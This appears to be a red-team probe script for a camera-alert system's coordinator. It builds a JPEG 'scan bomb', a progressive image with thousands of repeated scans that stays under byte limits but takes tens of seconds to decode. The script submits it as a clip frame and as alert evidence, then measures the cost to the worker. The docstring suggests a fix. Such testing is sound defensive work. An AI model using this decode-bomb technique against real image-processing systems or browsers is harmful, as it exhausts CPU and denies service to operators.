"""Probe (medium, attacker: a compromised enrolled node answering a real clip request; the same
picture check guards an alert's evidence, which needs no request at all): an 80 kB progressive
JPEG with thousands of repeated scans passes every check and costs the coordinator's worker
seconds of CPU per frame, then every browser that plays it.

``coordinator.evidence.checked_picture`` bounds the bytes (80,000 per clip frame), the size the
header states (at most 1920x1920, equal to the signed size) and that it decodes at that size.
It does not bound the number of scans. A progressive JPEG may hold any number of SOS segments;
libjpeg-turbo (OpenCV's ``imdecode``) runs a full pass over the image's coefficients for each
one and only warns ("Inconsistent progression sequence") on a repeated refinement scan. This
script builds a 1920x1920 grey progressive JPEG (14 kB, 6 scans, about 0.03 s to decode) and
repeats its last 14-byte refinement scan until the file is 80,000 bytes (about 4,600 scans),
signs it as a clip frame for a logged request and hands it to ``accept_clip``, the worker's
code. Measured here (2 shared cores): about 18 s of one worker's CPU for one 80 kB frame, and
the frame is stored. A clip has up to 64 frames: about 19 minutes of a worker per request, on
``LIVE_QUEUE``, the queue live alerts and evidence also wait on. Chromium (the control room's
browser, measured apart with Playwright) takes about 23 s to decode the same frame, and the
player preloads every frame: each look at such a clip costs each operator's machine minutes.
The alert's evidence snapshot goes through the same ``checked_picture`` with a 200 kB cap and
needs no request at all: the script also sends one (200 kB, about 13,000 scans: 47 s here) as an
alert's evidence.

Run: PYTHONPATH=$PWD /work/main/.venv/bin/python redteam/clip_jpeg_scan_bomb.py
Exit 1 = the many-scan frame (or snapshot) was stored; 0 = refused.
Suggested fix: in ``checked_picture``, before decoding, walk the markers (as ``jpeg_size``
does for SOF) and refuse more than a small number of SOS segments (a node's own encoder writes
1 baseline scan, or about 10 progressive ones: e.g. refuse > 16), or refuse progressive
(SOF2) pictures outright since nodes write baseline JPEGs; test with this file. The same check
then also protects alert evidence.
"""

from __future__ import annotations

import io
import sys
import tempfile
import time
from datetime import timedelta
from pathlib import Path

import cv2
import numpy as np
from PIL import Image

from contract.evidence import MAX_JPEG_BYTES
from contract.evidence_clips import MAX_FRAME_BYTES
from coordinator.errors import ClipRejected, EvidenceRejected
from coordinator.evidence import accept_evidence
from coordinator.evidence_clips import accept_clip
from nodes.event_sender import evidence_message
from nodes.events import StoredEvidence
from tests.support.clip_frames import clip_frame, key_of
from tests.support.incident_events import event, send
from tests.support.world import embedded_world
from tests.unit.test_clip_coordinator import T0, requested

SIDE = 1920


def scans(jpeg: bytes) -> list[tuple[int, int]]:
    """(start, end) of each SOS segment with its entropy-coded data."""
    found, at = [], 2
    while at < len(jpeg) and jpeg[at + 1] != 0xD9:
        marker, length = jpeg[at + 1], int.from_bytes(jpeg[at + 2:at + 4], "big")
        end = at + 2 + length
        if marker == 0xDA:  # the scan's data runs to the next marker that is not a stuffed
            while not (jpeg[end] == 0xFF and jpeg[end + 1] not in (0, *range(0xD0, 0xD8))):
                end += 1
            found.append((at, end))
        at = end
    return found


def bomb(limit: int = MAX_FRAME_BYTES) -> tuple[bytes, int]:
    buffer = io.BytesIO()
    Image.fromarray(np.full((SIDE, SIDE), 128, np.uint8)).save(
        buffer, "JPEG", quality=10, progressive=True)
    plain = buffer.getvalue()
    start, end = scans(plain)[-1]
    repeats = (limit - len(plain)) // (end - start)
    made = plain[:-2] + plain[start:end] * repeats + b"\xff\xd9"
    return made, len(scans(plain)) + repeats


def decode_seconds(jpeg: bytes) -> float:
    started = time.perf_counter()
    cv2.imdecode(np.frombuffer(jpeg, np.uint8), cv2.IMREAD_COLOR)
    return time.perf_counter() - started


def main() -> int:
    jpeg, count = bomb()
    print(f"the picture: {len(jpeg)} bytes, {SIDE}x{SIDE}, {count} scans")
    world = embedded_world(Path(tempfile.mkdtemp(prefix="rt-clip-scans-")))
    try:
        world.set_time(T0 + timedelta(days=1))
        world.add_node("alpha", "site-a")
        _, request_id, seq = requested(world)
        frame = clip_frame(world, request_id, seq, 0, 2, T0, event_index=-1, jpeg=jpeg,
                           size=(SIDE, SIDE))
        started = time.perf_counter()
        try:
            outcome = accept_clip(world.svc, frame)
        except ClipRejected as exc:
            outcome = f"refused: {exc}"
        took = time.perf_counter() - started
        snapshot, snapshot_scans = bomb(MAX_JPEG_BYTES)
        alert = event(T0 + timedelta(minutes=5))
        send(world, [alert])
        started = time.perf_counter()
        try:
            kept = accept_evidence(world.svc, evidence_message(
                StoredEvidence(alert.seq, "gate", alert.time, SIDE, SIDE, None, snapshot),
                world.nodes["alpha"].node_id, "site-a", key_of(world)))
        except EvidenceRejected as exc:
            kept = f"refused: {exc}"
        print(f"accept_evidence ({len(snapshot)} bytes, {snapshot_scans} scans, no request): "
              f"{kept} after {time.perf_counter() - started:.1f} s")
    finally:
        world.close()
    plain = io.BytesIO()
    Image.fromarray(np.full((SIDE, SIDE), 128, np.uint8)).save(plain, "JPEG", quality=10)
    print(f"accept_clip: {outcome} after {took:.1f} s of the worker (an honest {SIDE}x{SIDE} "
          f"frame decodes in {decode_seconds(plain.getvalue()):.3f} s)")
    return 1 if outcome == "stored" or isinstance(kept, int) else 0


if __name__ == "__main__":
    sys.exit(main())
